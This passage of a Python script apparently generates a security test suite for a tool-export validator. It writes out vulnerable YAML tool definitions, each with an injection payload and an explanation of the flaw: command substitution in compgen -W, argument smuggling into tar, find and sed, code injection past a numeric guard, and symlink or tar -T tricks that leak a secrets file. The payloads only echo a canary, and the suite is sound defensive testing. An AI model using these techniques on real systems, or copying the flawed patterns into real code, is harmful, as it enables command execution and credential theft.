  "NOTES is a symlink to /proc/self/cwd/.git/config: the caller's notes become the repository's config (core.fsmonitor), and the shipped repo_status's `git status` runs it.",
  then=[{"export": "repo_status", "args": {}}])

A("tar-symlink-secret-file", "upload-symlink", r'''
name: upload_bundle
description: Upload a bundle (.tar.gz) to the artifact store and show the first bytes of each file in it.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 1048576}
required: [bundle]
secrets:
  API_TOKEN: {file: /run/secrets/api_token}
timeout: 60
steps:
  - name: upload
    run: |
      printf 'Authorization: Bearer %s\n' "$API_TOKEN" |
        curl -sS --max-time 5 -o /dev/null --header @- -T "$ARG_bundle" http://127.0.0.1:18766/artifacts/bundle.tgz || true
  - name: preview
    run: |
      dir="$HARBOR_RUN_DIR/preview"
      mkdir -p "$dir"
      tar -xzf "$ARG_bundle" -C "$dir"
      for f in "$dir"/*; do
        printf '== %s\n' "${f##*/}"
        od -An -c -N 32 -- "$f"
      done
''', {"bundle": "@TGZ:symlink-secret"},
  "The secret's {file:} is never named by the script; a bundle member is a symlink to it, and od -c of the member prints it one character per cell.")

A("tar-T-secret-file", "upload-symlink", r'''
name: bundle_files
description: Pack the listed project files (one path per line) into a tarball, upload it, and return it base64-encoded.
args:
  files: {type: string, multiline: true, maxLength: 4000, description: "paths, one per line"}
required: [files]
secrets:
  API_TOKEN: {file: /run/secrets/api_token}
timeout: 60
steps:
  - name: pack
    run: |
      printf '%s\n' "$ARG_files" > "$HARBOR_RUN_DIR/list"
      tar -czf "$HARBOR_RUN_DIR/files.tgz" -T "$HARBOR_RUN_DIR/list"
      printf 'Authorization: Bearer %s\n' "$API_TOKEN" |
        curl -sS --max-time 5 -o /dev/null --header @- -T "$HARBOR_RUN_DIR/files.tgz" http://127.0.0.1:18766/artifacts/files.tgz || true
      base64 -w0 "$HARBOR_RUN_DIR/files.tgz"; echo
''', {"files": "README.md\n/run/secrets/api_token"},
  "A multi-line list in a run-directory file for tar -T (a file of names); no line is checked by within or for a leading '-'; the secret's file is one of the names, and the archive comes back base64-encoded.")

# ======================================================================== bash-constructs
A("compgen-W-caller-list", "bash-constructs", r'''
name: complete_name
description: Given candidate names (space-separated) and a prefix, return the names that start with the prefix.
args:
  candidates: {type: string, maxLength: 2000}
  prefix: {type: string, maxLength: 100, default: ""}
required: [candidates]
timeout: 10
steps:
  - name: complete
    run: |
      compgen -W "$ARG_candidates" -- "$ARG_prefix" || true
''', {"candidates": "alpha beta $(echo HARBOR-PWNED-$((6*7)) >&2) gamma", "prefix": "a"},
  "compgen is a bash builtin; its -W word list looks like data, but bash expands each word of it (command substitution included) when it runs. The docs list the builtins whose text is evaluated (unset, test -v, printf -v, read, declare, let); compgen -W is not among them.")

A("compgen-W-json-array", "bash-constructs", r'''
name: filter_branches
description: Of the given branch names, list those that start with a prefix.
args:
  branches: {type: array, items: {type: string, maxLength: 200}, maxItems: 200}
  prefix: {type: string, maxLength: 100, default: ""}
required: [branches]
timeout: 10
steps:
  - name: filter
    run: |
      mapfile -t names < <(jq -r '.[]' <<<"$ARG_branches")
      compgen -W "${names[*]}" -- "$ARG_prefix" || true
''', {"branches": ["main", "feature/login", "$(echo HARBOR-PWNED-$((6*7)) >&2)"], "prefix": "f"},
  "The same through an array argument read with mapfile: every item is a string that does not start with '-', and compgen -W runs its $(...).")

A("split-words-tar", "bash-constructs", r'''
name: archive_files
description: Make a tarball of some project files (space-separated paths) in the run directory.
args:
  files: {type: string, maxLength: 1000, description: "paths, space-separated"}
required: [files]
timeout: 60
steps:
  - name: pack
    run: |
      # word splitting on purpose: several paths in one argument
      tar -czf "$HARBOR_RUN_DIR/files.tgz" $ARG_files
      tar -tzf "$HARBOR_RUN_DIR/files.tgz"
''', {"files": "README.md --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"},
  "An unquoted expansion is W102 (a warning: 'not code, but the command receives arguments the author did not intend'); the value does not start with '-', but after splitting its later words do, and tar's --checkpoint-action runs a command.")

A("split-words-find", "bash-constructs", r'''
name: recent_logs
description: List the .log files changed in the last day under some folders (space-separated).
args:
  dirs: {type: string, maxLength: 500, default: "logs", description: "folders, space-separated"}
timeout: 30
steps:
  - name: list
    run: |
      read -ra where <<< "$ARG_dirs"
      find "${where[@]}" -name '*.log' -mtime -1 -print
''', {"dirs": "logs -exec sh -c echo${IFS}HARBOR-PWNED-$((6*7)) ;"},
  "read -a splits the value into an array whose items may start with '-' though the value does not; find takes them as its expression: -exec.")

A("split-words-sed", "bash-constructs", r'''
name: file_heads
description: Show the first five lines of some project files (space-separated paths).
args:
  files: {type: string, maxLength: 500, default: "README.md", description: "paths, space-separated"}
timeout: 30
steps:
  - name: heads
    run: |
      sed -n '1,5p' $ARG_files
''', {"files": "README.md -e1e${IFS}echo${IFS}HARBOR-PWNED-$((6*7))"},
  "Split words again (W102 only): one word is -e with a sed program, so sed takes '1,5p' as a file name and runs the caller's e command.")

A("guard-list-perl", "digit-guard-as-statement", r'''
name: log_head_perl
description: The first N lines of the worker log (perl, as the other log tools).
args:
  n: {type: string, maxLength: 120, default: "20"}
timeout: 30
steps:
  - name: head
    run: |
      n=$ARG_n
      [[ $n =~ ^[0-9]+$ ]] && (( n >= 1 ))
      perl -ne "print if \$. <= $n" logs/worker.log
''', {"n": '5; system("echo HARBOR-PWNED-" . 6*7)'},
  "The guard statement before a perl program that holds the 'number'.")

A("gh-run-view-repo-host", "gh-grammar", r"""
name: ghe_run
description: Show a workflow run of a repository on the company's GitHub Enterprise.
args:
  run: {type: integer, minimum: 1}
  repo: {type: string, pattern: "^[A-Za-z0-9_.-]+(/[A-Za-z0-9_.-]+){1,2}$"}
required: [run, repo]
""" + GHSEC + r"""
pass_env: [SSL_CERT_FILE]
timeout: 30
steps:
  - name: view
    env: {GH_HOST: ghe.example.com, GH_PROMPT_DISABLED: "1"}
    run: |
      GH_ENTERPRISE_TOKEN="$GHE_TOKEN" gh run view "$ARG_run" --repo "$ARG_repo" || true
""", {"run": 42, "repo": "127.0.0.1/o/r"},
  "gh run view with a number (round eighteen's gh run grammar); the --repo word's host gets the enterprise token.")

A("guard-list-python", "digit-guard-as-statement", r"""
name: top_orders_json
description: The first N orders of data/orders.json, as JSON.
args:
  n: {type: string, maxLength: 160, default: "5"}
timeout: 30
steps:
  - name: top
    run: |
      n=$ARG_n
      [[ $n =~ ^[0-9]+$ ]] && (( n > 0 && n <= 100 ))
      python3 -c "import json; print(json.dumps(json.load(open('data/orders.json'))['orders'][:$n], indent=1))"
""", {"n": "1], __import__('os').system('echo HARBOR-PWNED-' + str(6*7)) and [0"},
  "The guard statement before a literal python3 -c program that holds the 'number' (rule 5: a number is inert in code); the program becomes a call of os.system.")

# ======================================================================== custom-tool
A("tool-guard-list-awk", "custom-tool", r'''
name: agent_log_reader
description: An agent reads the first N ERROR lines of the application log and summarises them.
tools:
  first_errors:
    description: The first N ERROR lines of the application log (N a number, or all).
    args:
      n: {type: string, maxLength: 80, default: "20"}
    run: |
      n=$ARG_n
      [[ $n =~ ^[0-9]+$ ]] && (( n > 0 ))
      awk "/ERROR/ && ++c <= $n" logs/app.log
steps:
  - name: read
    agent:
      model: triage
      system: You summarise application logs.
      prompt: Read the first errors of the log and summarise them.
      tools: [first_errors]
''', {}, "The model's value in a custom tool behind the guard statement that -e does not enforce.",
  __tools__=[{"tool": "first_errors", "args": {"n": "1 || " + AWKSYS}}])

A("tool-pwd-env", "custom-tool", r'''
name: agent_report
description: An agent picks the report title, then the export runs the project report.
tools:
  set_title:
    description: Set the report's title.
    args:
      title: {type: string, maxLength: 120}
    required: [title]
    run: |
      printf 'REPORT_TITLE=%s\n' "$ARG_title" > "$PWD/.env"
steps:
  - name: choose
    agent:
      model: writer
      system: You choose report titles.
      prompt: Choose a title for today's report.
      tools: [set_title]
  - name: report
    run: ./scripts/report.sh
''', {}, "The tool writes the model's text to \"$PWD/.env\" (absolute: not counted as the working folder); the export's next step runs report.sh, which sources .env.",
  __tools__=[{"tool": "set_title", "args": {"title": "Daily;echo HARBOR-PWNED-$((6*7))"}}])

A("tool-compgen", "custom-tool", r'''
name: agent_pick_service
description: An agent picks a service by completing a prefix against candidate names.
tools:
  complete:
    description: Of the candidates (space-separated), those that start with the prefix.
    args:
      candidates: {type: string, maxLength: 1000}
      prefix: {type: string, maxLength: 100, default: ""}
    required: [candidates]
    run: |
      compgen -W "$ARG_candidates" -- "$ARG_prefix" || true
steps:
  - name: pick
    agent:
      model: helper
      system: You pick services.
      prompt: Pick the web service.
      tools: [complete]
''', {}, "compgen -W in a custom tool with the model's word list.",
  __tools__=[{"tool": "complete", "args": {"candidates": "web api $(echo HARBOR-PWNED-$((6*7)) >&2)", "prefix": "w"}}])

# ======================================================================== then/ exports (the second export of a pair)
T("kube_context", r'''
name: kube_context
description: Show the kubeconfig of the current context, self-contained, for copying to a laptop.
timeout: 30
steps:
  - name: show
    run: kubectl config view --minify --flatten
''')
T("build_report", r'''
name: build_report
description: Run the project's make report.
timeout: 30
steps:
  - name: report
    run: make -s report
''')
T("render_banner", r'''
name: render_banner
description: Render the docs index with the service's display name.
timeout: 30
steps:
  - name: render
    run: |
      name=$(jq -r '.service.display_name // .service.name' config/app.json)
      sed "s/@APP@/$name/g" docs/index.md
''')
T("latest_change", r'''
name: latest_change
description: Print the newest changelog entry as a banner.
timeout: 30
steps:
  - name: banner
    run: |
      latest=$(grep -m1 -e '^- ' CHANGELOG.md)
      awk "BEGIN { print \"Latest change: $latest\" }"
''')
T("deploy_banner", r'''
name: deploy_banner
description: Prefix the deploy log with the last commit's subject.
timeout: 30
steps:
  - name: banner
    env: {GIT_PAGER: cat}
    run: |
      last=$(git log -1 --format=%s)
      sed "s/^/[$last] /" CHANGELOG.md
''')
T("pick_environment", r'''
name: pick_environment
description: Complete an environment name from config/environments.txt.
args:
  prefix: {type: string, pattern: "^[a-z]{0,20}$", default: ""}
timeout: 10
steps:
  - name: complete
    run: |
      compgen -W "$(cat config/environments.txt)" -- "$ARG_prefix" || true
''')
T("region_table", r'''
name: region_table
description: Print the configured regions as a table.
timeout: 10
steps:
  - name: table
    run: |
      mapfile -t regions < <(jq -r '.regions[]?' config/app.json)
      for r in "${regions[@]}"; do
        awk "BEGIN { printf \"%-12s %s\\n\", \"$r\", \"enabled\" }"
      done
''')

PAYLOAD_FILES = {
    "names-read": [("b.log", "ERROR one\n"), ("a:1?" + ARITH, "ERROR x\n")],
    "names-arith": [("(1?" + ARITH, "ERROR x\n"), (")+0?0", "ERROR one\n")],
    "names-awk": [("0#.log", "ERROR a\nERROR b\n"), ("1;" + AWKSYS + "}#.log", "ERROR x\n")],
    "symlink-report": [("README.txt", "bundle\n"), ("MANIFEST", ("symlink", "/proc/self/cwd/scripts/report.sh"))],
    "symlink-makefile": [("index.md", "# docs\n"), ("STAMP", ("symlink", "/proc/self/cwd/local.mk"))],
    "symlink-gitconfig": [("app.txt", "app\n"), ("NOTES", ("symlink", "/proc/self/cwd/.git/config"))],
    "symlink-secret": [("app.txt", "app\n"), ("token-check", ("symlink", "/run/secrets/api_token"))],
}


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(os.path.join(OUT, "then"), exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for name, y in THEN.items():
        open(os.path.join(OUT, "then", name + ".yaml"), "w").write(y)
    i = 0
    for name, cls, y, args, why, extra in ATT:
        if extra.pop("skip", False):
            continue
        extra.pop("multiline_fix", None)
        i += 1
        args = dict(args)
        for k, v in args.items():
            if isinstance(v, str) and v.startswith("@TGZ:"):
                args[k] = tgz(PAYLOAD_FILES[v[5:]])
            elif isinstance(v, str) and v.startswith("@ZIP:"):
                args[k] = zipb(PAYLOAD_FILES[v[5:]])
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": args, "class": cls, "why": why}
        spec.update(extra)
        json.dump(spec, open(base + ".json", "w"), indent=1)
        blob = json.dumps(spec["args"]) + json.dumps(spec.get("__tools__", [])) + json.dumps(spec.get("then", []))
        assert "HARBOR-PWNED-42" not in blob, name
    print(i, "attacks,", len(THEN), "then-exports")


if __name__ == "__main__":
    main()
